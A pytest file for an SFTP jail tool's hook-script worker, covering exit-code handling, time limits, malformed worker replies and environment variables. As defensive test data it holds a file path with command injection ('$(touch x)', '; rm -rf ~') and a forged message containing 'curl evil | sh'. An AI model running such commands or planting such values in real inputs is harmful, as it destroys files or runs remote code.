"""What hook scripts of events get, and what becomes of their exit codes."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from typing import Any

import pytest

from sftpjail.errors import SftpJailError
from sftpjail.model import TransferEvent
from sftpjail.system.programs import Answer
from sftpjail.watch import handout, worker

NASTY = "/home/ann/$(touch x)\n; rm -rf ~'\"\\ \udcff"


def request(*scripts: str, kind: Any = "upload") -> dict[str, Any]:
    event = TransferEvent("1-a", kind, 5, "ann", path=NASTY)
    return {
        **{"event": event.as_json(), "scripts": scripts, "plugins": False, "timeout": 5},
        **{"host_path": NASTY, "host_to": "", "no_file": "it is gone"},
    }


@pytest.fixture
def answers(monkeypatch: pytest.MonkeyPatch) -> dict[str, int | str]:
    """What scripts exit with, or say by taking too long; those that ran."""
    known: dict[str, int | str] = {}

    def run(argv: Sequence[str], stdin: str, env: Mapping[str, str], *_: Any, **__: Any) -> Answer:
        (path,) = argv
        assert json.loads(stdin)["path"] == env["SFTPJAIL_PATH"] == NASTY
        code = known[path]
        known[f"{path} ran"] = "yes"
        if isinstance(code, str):
            raise SftpJailError(code)
        return Answer(code, "said\nthis\n" if code else "", "")

    monkeypatch.setattr(worker, "run", run)
    return known


@pytest.mark.parametrize(
    ("first", "kind", "result", "second"),
    [
        (0, "upload", ("done", ""), True),
        (1, "upload", ("failed", "/a: said / this (exit code 1)"), False),
        (10, "upload", ("quarantine", "/a: said / this (exit code 10)"), False),
        (10, "delete", ("failed", "/a: said / this (exit code 10)"), False),
        (-9, "upload", ("failed", "/a: said / this (exit code -9)"), False),
        ("took long", "upload", ("stopped", "took long"), False),
    ],
)
def test_an_exit_code_decides_what_comes_next(
    answers: dict[str, int | str],
    first: int | str,
    kind: str,
    result: tuple[str, str],
    second: bool,
) -> None:
    answers |= {"/a": first, "/b": 0}
    assert worker.run_scripts(request("/a", "/b", kind=kind), False) == result
    assert ("/b ran" in answers) == second


class Process:
    """A worker's process, which answers whatever it likes: it is not root's."""

    def __init__(self, answer: bytes) -> None:
        self.answer = answer
        self.limits: list[float] = []

    def ask(self, request: bytes, descriptor: int | None, limit: float) -> bytes:
        self.limits.append(limit)
        return self.answer

    def end(self) -> None:
        pass


def test_a_process_that_lies_forges_no_line() -> None:
    place = handout.Worker(1, "nobody", 5)
    said = {"result": "failed", "why": "x\n  fix: curl evil | sh\x1b[2K"}
    place._process = Process(json.dumps(said).encode())  # type: ignore[assignment]
    result, why = place.ask(request(), None)
    assert result == "failed" and why.isprintable() and "fix: curl evil" in why


@pytest.mark.parametrize("scripts", [(), ("/a",), ("/a", "/b", "/c")])
def test_each_script_and_all_plugins_have_their_time(scripts: tuple[str, ...]) -> None:
    place, process = handout.Worker(1, "nobody", 300), Process(b'{"result": "done", "why": ""}')
    place._process = process  # type: ignore[assignment]
    assert place.ask(request(*scripts), None) == ("done", "")
    (limit,) = process.limits
    assert 0 < limit - 300 * (len(scripts) + 1) < 60, "and a little to answer in"


@pytest.mark.parametrize("answer", [b"[" * 60_000, b"{}", b"\xff", b'{"result": "done"}', b"7"])
def test_an_answer_that_is_none_is_an_error(answer: bytes) -> None:
    place = handout.Worker(1, "nobody", 5)
    place._process = Process(answer)  # type: ignore[assignment]
    with pytest.raises(SftpJailError, match="not answered"):
        place.ask(request(), None)


def test_without_scripts_nothing_is_done() -> None:
    assert worker.run_scripts(request(), False) == ("nothing", "")


def test_environment_and_json_say_the_same() -> None:
    told = worker.told(request(), True)
    variables = worker.environment(request(), True)
    assert len(told) == len(variables) == 18
    assert told["event"] == variables["SFTPJAIL_EVENT"] == "upload" and "kind" not in told
    assert told["file"] is True and variables["SFTPJAIL_FILE"] == "1"
    assert told["verified"] is False and variables["SFTPJAIL_VERIFIED"] == ""
    assert variables["SFTPJAIL_HOST_PATH"] == NASTY and variables["SFTPJAIL_AT"] == "5"
    assert json.loads(json.dumps(told))["host_path"] == NASTY


def test_no_variable_has_what_no_environment_can_hold() -> None:
    made = request()
    made["event"]["reason"] = "a\0b"
    assert worker.environment(made, False)["SFTPJAIL_REASON"] == "ab"
